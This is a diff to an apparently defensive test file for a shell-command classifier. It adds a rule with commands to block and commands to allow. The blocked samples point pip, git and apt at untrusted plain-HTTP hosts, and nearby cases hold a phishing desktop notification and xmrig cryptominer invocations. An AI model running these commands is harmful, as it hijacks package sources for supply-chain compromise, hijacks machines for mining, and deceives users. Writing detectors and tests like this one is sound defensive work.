@@ -157,6 +157,13 @@ CASES: dict[str, tuple[list[str], list[str]]] = {
          "notify-send 'IT Support' 'Your password expires today. Update it now at https://203.0.113.40/reset'"],
         ["terminal-notifier -title 'Tests' -message 'All 212 passed'", "notify-send 'Apple Music' 'Now playing'"],
     ),
+    "block.shell.untrusted-source": (
+        ["pip config set global.index-url http://203.0.113.5/simple",
+         "git config --global url.http://198.51.100.2/.insteadOf https://github.com/",
+         "echo 'deb http://203.0.113.5/debian bookworm main' | sudo tee /etc/apt/sources.list.d/m.list"],
+        ["pip config set global.index-url https://pypi.org/simple", "npm config set registry http://localhost:4873",
+         "pip install -i http://192.168.1.10:8080/simple pkg"],
+    ),
     "block.shell.miner": (
         ["./xmrig -o stratum+tcp://pool.example:3333 -u wallet", "nohup ./worker --donate-level 1 -o p.example:443 &"],
         ["./build/worker --threads 4", "cargo run --release -- --algo quicksort"],
